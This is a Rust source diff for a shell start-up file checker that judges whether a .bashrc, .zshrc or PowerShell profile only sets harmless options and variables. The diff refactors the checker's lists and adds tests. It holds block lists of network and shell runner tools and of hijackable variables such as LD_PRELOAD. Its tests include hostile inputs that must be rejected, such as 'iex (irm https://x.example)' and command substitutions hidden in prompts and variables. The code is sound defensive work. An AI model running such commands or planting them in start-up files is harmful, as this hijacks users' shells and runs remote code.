@@ -5,131 +5,14 @@
 use super::model::{Assignment, Command, Context, Joined, RedirectOp, WordFlags};
 use super::programs::known_name;
 use super::scratch::{Shell, ShellScratch};
+use super::settings_table::{
+    ASKED, EDITOR_PROGRAMS, EDITORS, FOLDERS, OPEN_FOLDERS, PLAIN, PRINTERS, RUNNERS, SETTERS, SOURCES, STEERING,
+    STEERING_ENDS, STEERING_NAMES, TOOLS,
+};
 use super::{Dialect, parse};
 
 /// Longer texts are not looked at.
 const LONGEST: usize = 64 * 1024;
-
-/// Commands that set options, keys and completions.
-const SETTERS: &str = "setopt unsetopt shopt bindkey autoload compinit bashcompinit promptinit colors zstyle zmodload set umask ulimit stty \
-    compdef complete unset unalias disable emulate fish_add_path fish_config fish_vi_key_bindings fish_default_key_bindings abbr \
-    set-psreadlineoption set-strictmode true false : return type hash which [ [[ test command";
-
-/// Tools that print lines which set them up, or a value: `eval "$(starship init bash)"`, `$(go env GOPATH)`.
-const TOOLS: &str = "starship zoxide direnv rbenv pyenv nodenv jenv goenv mise asdf fnm fzf atuin thefuck brew kubectl helm gh docker npm pip minikube oc k3d \
-    kind flux argocd stern poetry rustup uv pdm pipx deno bun volta rtx oh-my-posh dircolors lesspipe go tput tty uname hostname date whoami id pwd nproc \
-    xdg-user-dir just op chezmoi terraform glab k9s velero vagrant conda mamba micromamba opam ng yarn pnpm keychain";
-
-/// Programs that an alias doesn't begin with: they fetch, connect or run what they are given.
-const RUNNERS: &str = "curl wget nc ncat netcat socat sh bash zsh dash ksh fish eval source . exec perl ruby php node base64 openssl xxd telnet nohup setsid \
-    builtin env xargs at crontab insmod powershell pwsh iex invoke-expression";
-
-/// Files that are read in from where a start-up file stands, and folders that tools install such files to. A variable is kept only where
-/// nothing here sets it.
-const SOURCES: [&[u8]; 38] = [
-    b"/usr/",
-    b"/opt/",
-    b"/etc/",
-    b"/Library/",
-    b"/snap/",
-    b"/nix/",
-    b"$()/",
-    b"$ZSH/",
-    b"$ZSH_CUSTOM/",
-    b"$NVM_DIR/",
-    b"$SDKMAN_DIR/",
-    b"$PYENV_ROOT/",
-    b"$BREW_PREFIX/",
-    b"~/.fzf",
-    b"~/.p10k.zsh",
-    b"~/.bash_aliases",
-    b"~/.bash_completion",
-    b"~/.bashrc",
-    b"~/.bash_profile",
-    b"~/.zshrc",
-    b"~/.profile",
-    b"~/.aliases",
-    b"~/.cargo/env",
-    b"~/.nix-profile/",
-    b"~/.oh-my-zsh/",
-    b"~/.zplug/",
-    b"~/.zinit/",
-    b"~/.local/share/zinit/",
-    b"~/.asdf/",
-    b"~/.sdkman/",
-    b"~/.nvm/",
-    b"~/.iterm2_shell_integration.",
-    b"~/.ghcup/env",
-    b"~/.local/bin/env",
-    b"~/.config/broot/",
-    b"~/google-cloud-sdk/",
-    b"~/.deno/env",
-    b"~/.rbenv/",
-];
-
-/// Variables that make programs run, load, send or trust something else, by their beginnings.
-const STEERING: [&[u8]; 43] = [
-    b"LD_",
-    b"DYLD_",
-    b"BASH_ENV",
-    b"ENV",
-    b"PROMPT_COMMAND",
-    b"PYTHONSTARTUP",
-    b"PYTHONPATH",
-    b"PYTHONHOME",
-    b"PERL5",
-    b"RUBYOPT",
-    b"RUBYLIB",
-    b"NODE_OPTIONS",
-    b"NODE_PATH",
-    b"NODE_EXTRA",
-    b"NODE_TLS",
-    b"JAVA_TOOL",
-    b"_JAVA",
-    b"JDK_JAVA",
-    b"GIT_",
-    b"SSH_",
-    b"SUDO_",
-    b"SSL_",
-    b"CURL_",
-    b"REQUESTS_CA",
-    b"LESSOPEN",
-    b"LESSCLOSE",
-    b"BROWSER",
-    b"SHELL",
-    b"FCEDIT",
-    b"HISTFILE",
-    b"IFS",
-    b"ZDOTDIR",
-    b"INPUTRC",
-    b"GCONV_PATH",
-    b"LOCPATH",
-    b"HOSTALIASES",
-    b"RUSTC_",
-    b"CARGO_BUILD_RUSTC",
-    b"PIP_",
-    b"NPM_CONFIG",
-    b"npm_config",
-    b"GO",
-    b"DOCKER_HOST",
-];
-
-/// The same by their ends.
-const STEERING_ENDS: [&[u8]; 7] =
-    [b"_PROXY", b"_proxy", b"_REGISTRY", b"_INDEX", b"_COMMAND", b"_WRAPPER", b"_CA_BUNDLE"];
-
-/// Variables that are steered by no harm in what begins like them.
-const PLAIN: &str = "GOPATH GOROOT GOBIN GPG_TTY";
-
-/// Variables that name a program.
-const EDITORS: &str = "EDITOR VISUAL PAGER MANPAGER SUDO_EDITOR GIT_EDITOR SVN_EDITOR";
-
-/// What these may name.
-const EDITOR_PROGRAMS: &str =
-    "vi vim nvim nano emacs emacsclient code subl hx helix micro kak ed less most bat more cursor zed mate joe pico";
-
-/// Where everybody may write.
-const OPEN_FOLDERS: [&[u8]; 4] = [b"/tmp", b"/var/tmp", b"/dev/shm", b"\\Temp\\"];
 
 /// Whether the lines of a start-up file only set something. One that is empty sets nothing.
 pub(crate) fn only_sets(text: &[u8], dialect: Dialect) -> bool {
@@ -156,13 +39,13 @@ pub(super) fn writes_settings(shell: Shell<'_>, index: usize) -> bool {
     }
     // What a program prints to complete its own options: `kubectl completion zsh >> ~/.zshrc`.
     let completes = |one: &Command| {
-        let words = shell.args(one).iter().take(3).any(|word| {
+        let words = shell.args(one).iter().take(2).any(|word| {
             let word = shell.text(word.text);
             word.strip_prefix(b"--").unwrap_or(word).starts_with(b"completion")
         });
         words
             && is_plain(shell, one)
-            && (one.classes.is_empty() && !listed(RUNNERS, shell.name(one)) || listed(TOOLS, shell.name(one)))
+            && (one.classes.is_empty() && !listed(RUNNERS, shell.name(one)) || prints(shell, one))
     };
     let outer = shell.outermost(index);
     let piped = shell.commands().get(outer).is_some_and(|outer| outer.stage == 1);
@@ -218,11 +101,9 @@ fn sets(shell: Shell<'_>, dialect: Dialect, index: usize, command: &Command) -> 
         return !piped && plainly_set();
     }
     if dialect == Dialect::PowerShell
-        && let Some((name, values)) = variable(shell, command)
+        && let Some((name, value)) = variable(shell, command)
     {
-        let given = |value: &[u8]| harmless(name, value.strip_prefix(b";").unwrap_or(value));
-        let known = !shell.words(command).iter().any(|word| word.flags.has(WordFlags::SUBSTITUTION));
-        return !piped && known && values.iter().all(|value| given(value));
+        return !piped && harmless(name, value.strip_prefix(b";").unwrap_or(value));
     }
     if shell.words(command).first().is_some_and(|word| word.flags.has(WordFlags::EXPANSION.with(WordFlags::SPLICED))) {
         return false;
@@ -239,35 +120,46 @@ fn sets(shell: Shell<'_>, dialect: Dialect, index: usize, command: &Command) -> 
         b"source" | b"." if piped => args.is_empty() || args.iter().all(|word| shell.text(word.text) == b"-"),
         b"source" | b"." => args.first().is_some_and(|word| is_source(shell.text(word.text))),
         b"eval" => matches!(args, [word] if shell.text(word.text) == b"$()"),
-        b"complete" | b"bindkey" | b"zstyle" | b"command" => {
-            let runs: &[&[u8]] = match name {
-                b"bindkey" => &[b"-s"],
-                b"zstyle" => &[b"-e"],
-                b"command" => &[],
-                _ => &[b"-C"],
+        b"complete" | b"bindkey" | b"zstyle" | b"command" | b"emulate" | b"hash" | b"set-psreadlineoption" => {
+            // Options that give a command to run, or a name to another program.
+            let runs: u8 = match name {
+                b"bindkey" => b's',
+                b"zstyle" => b'e',
+                b"emulate" => b'c',
+                b"hash" => b'p',
+                b"complete" => b'C',
+                _ => 0,
             };
-            let asks =
-                name != b"command" || args.first().is_some_and(|word| matches!(shell.text(word.text), b"-v" | b"-V"));
-            asks && !piped && clean() && !args.iter().any(|word| runs.contains(&shell.text(word.text)))
+            let given = |word: &[u8]| {
+                word.first() == Some(&b'-') && word.contains(&runs)
+                    || name == b"hash" && word.contains(&b'=')
+                    || word.iter().any(|byte| b"{(".contains(byte))
+            };
+            let asks = name != b"command" || asks_for(shell, command);
+            asks && !piped && clean() && !args.iter().any(|word| given(shell.text(word.text)))
         }
         _ if listed(SETTERS, name) => !piped && plainly_set() && clean(),
-        _ => listed(TOOLS, name) && plainly_set() && is_plain(shell, command),
+        _ => prints(shell, command) && plainly_set() && is_plain(shell, command),
     }
 }
 
-/// The variable that PowerShell sets, and to what: `$env:NAME = "…"`, `$x="…"`.
-fn variable<'s>(shell: Shell<'s>, command: &Command) -> Option<(&'s [u8], Vec<&'s [u8]>)> {
-    let (first, rest) = shell.words(command).split_first()?;
+/// The variable that PowerShell sets to a string: `$env:NAME = "…"`, `$x="…"`. What stands there without quotes may be a command.
+fn variable<'s>(shell: Shell<'s>, command: &Command) -> Option<(&'s [u8], &'s [u8])> {
+    let words = shell.words(command);
+    let (first, last) = words.first().zip(words.last())?;
     let text = shell.text(first.text);
     let text = text.strip_prefix(b"$env:").or(text.strip_prefix(b"$"))?;
-    let mut values: Vec<_> = rest.iter().map(|word| shell.text(word.text)).collect();
-    if matches!(values.first(), Some(&b"=" | &b"+=")) {
-        values.remove(0);
-        return Some((text, values));
-    }
-    let at = memchr::memchr(b'=', text)?;
-    values.push(text.get(at + 1..)?);
-    Some((text.get(..at)?.trim_ascii_end(), values))
+    let (name, value) = match words {
+        [_] => {
+            let at = memchr::memchr(b'=', text)?;
+            (text.get(..at)?, text.get(at + 1..)?)
+        }
+        [_, sign, value] if matches!(shell.text(sign.text), b"=" | b"+=") => (text, shell.text(value.text)),
+        _ => return None,
+    };
+    let named = name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
+    let string = last.flags.has(WordFlags::QUOTED) && !last.flags.has(WordFlags::SUBSTITUTION);
+    (named && string).then_some((name, value))
 }
 
 /// `command -v x`, which runs nothing.
@@ -298,12 +190,12 @@ fn harmless(name: &[u8], value: &[u8]) -> bool {
         return words.next().is_some_and(|word| listed(EDITOR_PROGRAMS, word))
             && words.all(|word| word.starts_with(b"-"));
     }
-    let steers = STEERING.iter().any(|start| match *start {
-        b"ENV" | b"IFS" | b"SHELL" => name == *start,
-        b"PERL5" if name == b"PERL5_HOME" => false,
-        _ => name.starts_with(start),
-    });
-    if steers && !listed(PLAIN, name) || STEERING_ENDS.iter().any(|end| name.ends_with(end)) {
+    if let Some((_, end)) = FOLDERS.iter().find(|(folder, _)| *folder == name) {
+        return value.strip_suffix(*end).is_some_and(is_home);
+    }
+    let words = |list: &'static str| list.split_ascii_whitespace().map(str::as_bytes);
+    let steers = words(STEERING).any(|start| name.starts_with(start)) || listed(STEERING_NAMES, name);
+    if steers && !listed(PLAIN, name) || words(STEERING_ENDS).any(|end| name.ends_with(end)) {
         return false;
     }
     let path = name.eq_ignore_ascii_case(b"PATH") || name.eq_ignore_ascii_case(b"FPATH");
@@ -311,14 +203,25 @@ fn harmless(name: &[u8], value: &[u8]) -> bool {
     is_clean(value) && (!path || value.split(|byte| matches!(byte, b':' | b';')).all(rooted))
 }
 
-/// Whether a value leads neither to where everybody may write nor out to the network.
+/// Whether a folder is somebody's home, or belongs to the system.
+fn is_home(path: &[u8]) -> bool {
+    let of_user = [b"/home/".as_slice(), b"/Users/"].iter().find_map(|homes| path.strip_prefix(*homes));
+    matches!(path, b"~" | b"$HOME" | b"/root" | b"$ZSH" | b"~/.oh-my-zsh" | b"$HOME/.oh-my-zsh")
+        || of_user.is_some_and(|user| !user.is_empty() && memchr::memchr(b'/', user).is_none() && user != b"..")
+        || path.starts_with(b"/usr/") && !path.windows(2).any(|two| two == b"..")
+}
+
+/// Whether a value leads neither to where everybody may write nor out to the network, and holds nothing that is run when it is read again.
 fn is_clean(text: &[u8]) -> bool {
+    let has = |part: &[u8]| memchr::memmem::find(text, part).is_some();
     let abroad = memchr::memmem::find(text, b"://").is_some_and(|at| {
-        ![b"localhost".as_slice(), b"127.0.0.1"]
-            .iter()
-            .any(|host| text.get(at + 3..).unwrap_or_default().starts_with(host))
+        let host = text.get(at + 3..).unwrap_or_default();
+        !host.starts_with(b"localhost") && !host.starts_with(b"127.0.0.1")
     });
-    !abroad && !OPEN_FOLDERS.iter().any(|folder| memchr::memmem::find(text, folder).is_some())
+    // What was substituted in the text itself stands as `$()`, and is judged as a command.
+    let later =
+        memchr::memmem::find_iter(text, b"$(").any(|at| text.get(at + 2) != Some(&b')')) || has(b"`") || has(b"${(");
+    !abroad && !later && !OPEN_FOLDERS.iter().any(|folder| has(folder))
 }
 
 /// `set -gx NAME value`
@@ -353,7 +256,7 @@ fn aliases(word: &[u8]) -> bool {
             let program = words.next().unwrap_or_default();
             let same = program.as_bytes() == name;
             // What is run under another's name is that one.
-            let keeps = !own || !first || same;
+            let keeps = !own || first && same;
             first = false;
             let run = if matches!(program, "sudo" | "doas" | "command" | "noglob" | "time") {
                 words.next().unwrap_or_default()
@@ -361,7 +264,9 @@ fn aliases(word: &[u8]) -> bool {
                 program
             };
             let base = run.rsplit('/').next().unwrap_or_default();
+            let installed = !run.contains('/') || is_source(run.as_bytes());
             keeps
+                && installed
                 && !listed(RUNNERS, base.as_bytes())
                 && !words.any(|word| matches!(word, "-c" | "-e" | "-exec" | "--eval"))
         })
@@ -388,7 +293,17 @@ fn is_source(path: &[u8]) -> bool {
     let home = [b"$HOME/".as_slice(), b"${HOME}/"].iter().find_map(|home| path.strip_prefix(*home));
     let below = home.map(|rest| [b"~/", rest].concat());
     let path = below.as_deref().unwrap_or(path);
-    SOURCES.iter().any(|start| path.starts_with(start)) && !path.windows(2).any(|two| two == b"..") && is_clean(path)
+    let known = |one: &str| path == one.as_bytes() || one.ends_with('/') && path.starts_with(one.as_bytes());
+    SOURCES.split_ascii_whitespace().any(known) && !path.windows(2).any(|two| two == b"..") && is_clean(path)
+}
+
+/// Whether a command prints a value, or what sets a tool up.
+fn prints(shell: Shell<'_>, command: &Command) -> bool {
+    let name = shell.name(command);
+    let mut args = shell.args(command).iter().map(|word| shell.text(word.text));
+    let writes = |arg: &[u8]| matches!(arg, b"-w" | b"-u" | b"--write");
+    listed(PRINTERS, name)
+        || listed(TOOLS, name) && args.next().is_some_and(|first| listed(ASKED, first)) && !args.any(writes)
 }
 
 /// Whether a tool is given plain words alone, and gets nothing from a pipe.
@@ -422,6 +337,7 @@ mod tests {
             "# my settings\n\nexport EDITOR=vim\n",
             "export PATH=\"$HOME/.local/bin:$PATH\"",
             "export PATH=$PATH:/usr/local/go/bin\nexport GOPATH=$HOME/go",
+            "export ZSH=/home/dana/.oh-my-zsh\nexport SDKMAN_DIR=\"$HOME/.sdkman\"",
             "alias ll='ls -la'\nalias gs=\"git status\"\nalias ls='ls --color=auto'\nalias rm='rm -i'",
             "alias update='sudo apt update && sudo apt upgrade -y'",
             "HISTSIZE=10000\nHISTCONTROL=ignoreboth\nshopt -s histappend",
@@ -487,6 +403,22 @@ mod tests {
             "export A=1 > ~/y",
             "set -gx LD_PRELOAD ~/x.so",
             "[ -f x ] || ./x",
+            "docker run -d x",
+            "npm install x",
+            "go run x.example/y@latest",
+            "go env -w GOFLAGS=-toolexec=x",
+            "kubectl delete ns a",
+            "export ZSH=$HOME/.cache/x",
+            "export NVM_DIR=$HOME/x/.nvm",
+            "export NVM_DIR=/home/dana/x/.nvm",
+            "source ~/.bashrc_x",
+            ". $(pwd)/x",
+            "alias git='git status && x'",
+            "alias ll='ls && ~/.x/y'",
+            "emulate sh -c ./x",
+            "hash -p /home/dana/x ls",
+            "PS1='$(./x)'",
+            "declare -i a='b[$(./x)]'",
             "\"ex\"port A=$(x)",
         ] {
             assert!(!only_sets(text.as_bytes(), Dialect::Posix), "{text}");
@@ -496,6 +428,11 @@ mod tests {
             "Import-Module C:\\x.psm1",
             "iex (irm https://x.example)",
             "Start-Process x",
+            "$x = iex $y",
+            "$env:X = Start-Process x",
+            "$function:prompt = 'x'",
+            "Set-PSReadLineOption -AddToHistoryHandler { ./x }",
+            "$env:X = \"$(./x)\"",
         ] {
             assert!(!only_sets(text.as_bytes(), Dialect::PowerShell), "{text}");
         }
